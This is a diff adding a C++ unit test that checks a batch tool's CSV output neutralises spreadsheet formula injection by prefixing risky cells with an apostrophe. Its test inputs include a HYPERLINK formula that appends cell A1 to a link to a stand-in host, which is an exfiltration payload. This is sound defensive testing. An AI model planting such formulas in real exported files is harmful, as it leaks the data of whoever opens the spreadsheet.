@@ -131,3 +131,29 @@ TEST(Batch, BagSizeColumnFollowsTheOptionsRule)
         }
     }
 }
+
+// A typed cell that a spreadsheet would run as a formula comes back as text, designed or not.
+TEST(Batch, CsvCellsNeverReachASpreadsheetAsFormulas)
+{
+    const std::pair<std::string, std::string> rows[] = {
+        {"240,cube,10,2,no,\"=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\",5",
+         "240,cube,10.0,2,no,\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\",5,"},
+        {"+1,cube,10,2,no,,5", "\"'+1\",cube,10.0,2,no,,5,"},
+        {"-1+2,cube,10,2,no,,5", "\"'-1+2\",cube,10.0,2,no,,5,"},
+        {"@SUM(A1),cube,10,2,no,,5", "\"'@SUM(A1)\",cube,10.0,2,no,,5,"},
+        {"\"\t=1+1\",cube,10,2,no,,5", "\"'\t=1+1\",cube,10.0,2,no,,5,"},
+        {"\"\r=1+1\",cube,10,2,no,,5", "\"'\r=1+1\",cube,10.0,2,no,,5,"},
+        {"240,cube,10,2,no,,-5", "240,cube,10.0,2,no,,\"'-5\","},
+    };
+    for (const auto& [input, start] : rows) {
+        std::istringstream in(kHeader + input + "\n");
+        std::ostringstream out, err;
+        Options options;
+        options.batchFile = "-";
+        options.batchFormat = BatchFormat::Csv;
+        runBatch(in, out, err, options);
+        const std::string text = out.str();
+        const std::string row = text.substr(text.find("\r\n") + 2);
+        EXPECT_EQ(row.substr(0, start.size()), start) << input;
+    }
+}
